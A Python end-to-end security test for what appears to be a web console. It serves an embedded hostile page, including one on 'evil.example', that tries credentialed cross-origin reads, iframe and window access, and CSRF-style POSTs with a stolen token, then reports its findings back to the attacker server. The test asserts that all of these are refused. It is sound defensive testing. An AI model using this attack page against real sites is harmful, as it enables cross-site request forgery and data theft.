"""What pages of others in the same browser can do to the console: nothing."""

import http.server
import json
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.e2e.browser import Pages, chromium
from tests.e2e.console.conftest import Served

EVIL = """
<!DOCTYPE html><body><script>
const [origin, folder, token] = %s;
const told = {};
const attempt = async (what, work) => {
  try { told[what] = String(await work()) } catch (error) { told[what] = "refused" }
};
const text = async (...request) => {
  const answer = await fetch(...request);
  return answer.type + answer.status + await answer.text();
};
const loaded = (element) => new Promise((done) => {
  element.onload = () => done("loaded");
  element.onerror = () => done("refused");
  document.body.append(element);
});
const fields = new URLSearchParams({token});
(async () => {
  for (const [name, address] of [["page", folder], ["file", folder + "static/console.js"], ["live", folder + "live"]]) {
    await attempt(name + " read", () => text(origin + address, {credentials: "include"}));
    await attempt(name + " unread", () => text(origin + address, {credentials: "include", mode: "no-cors"}));
  }
  await attempt("script", () => loaded(Object.assign(document.createElement("script"),
    {src: origin + folder + "static/console.js"})));
  await attempt("frame", () => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), {src: origin + folder});
    frame.onload = () => { try { done(frame.contentDocument.title) } catch { done("refused") } };
    document.body.append(frame);
  }));
  await attempt("window", async () => {
    const opened = window.open(origin + folder);
    await new Promise((done) => setTimeout(done, 1000));
    return opened.document.title;
  });
  for (const mode of ["cors", "no-cors"])
    await attempt("write " + mode, () => text(origin + folder + "samples",
      {method: "POST", mode, credentials: "include", body: fields}));
  const form = Object.assign(document.createElement("form"),
    {method: "post", action: origin + folder + "samples", target: "sent"});
  form.append(Object.assign(document.createElement("input"), {name: "token", value: token}));
  document.body.append(Object.assign(document.createElement("iframe"), {name: "sent"}), form);
  form.submit();
  await new Promise((done) => setTimeout(done, 1500));
  await fetch("/tell", {method: "POST", body: JSON.stringify(told)});
})();
</script>
"""


@pytest.fixture
def visited(served: Served):
    """A browser in which the console is open, whose names all end at this machine."""
    from playwright.sync_api import sync_playwright

    options = ["--no-sandbox", "--host-resolver-rules=MAP * 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"]
    path = chromium()
    with sync_playwright() as playwright, playwright.chromium.launch(executable_path=path, args=options) as browser:
        yield browser


def attack(browser: Browser, served: Served, host: str) -> tuple[dict[str, str], list[str], bool]:
    """What a page on another port of a host is told, the cookies that its server got, and whether anything was done."""
    cookies: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.goto(served.server.address)
    folder = "/" + page.url.split("/", 4)[3] + "/"
    token = page.locator("body").get_attribute("data-token")
    with Pages() as pages:
        arguments = json.dumps([f"http://127.0.0.1:{served.server.port}", folder, token])

        def answer(request: http.server.BaseHTTPRequestHandler) -> None:
            cookies.extend(request.headers.get_all("Cookie") or [])
            request._answer(EVIL % arguments)

        # It knows more than it ever would: the path that nobody can guess, and the token of a page.
        pages.pages["/"] = answer
        pages.pages[folder] = answer
        evil = context.new_page()
        evil.goto(f"http://{host}:{pages.port}/")
        told: Any = pages.heard()
    context.close()
    tables = [table["name"] for table in served.stack.outputs["streams"]["users"]["tables"]]
    dynamodb = served.target.client("dynamodb")
    return told, cookies, any(dynamodb.scan(TableName=name)["Items"] for name in tables)


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1", "localhost"])
def test_a_page_of_another_origin_or_port_reads_and_does_nothing(visited, served, host):
    told, cookies, is_changed = attack(visited, served, host)
    said = {what: answer for what, answer in told.items() if answer not in ("refused", "opaque0", "")}
    assert said == {}
    assert len(told) == 11
    assert cookies == []
    assert not is_changed
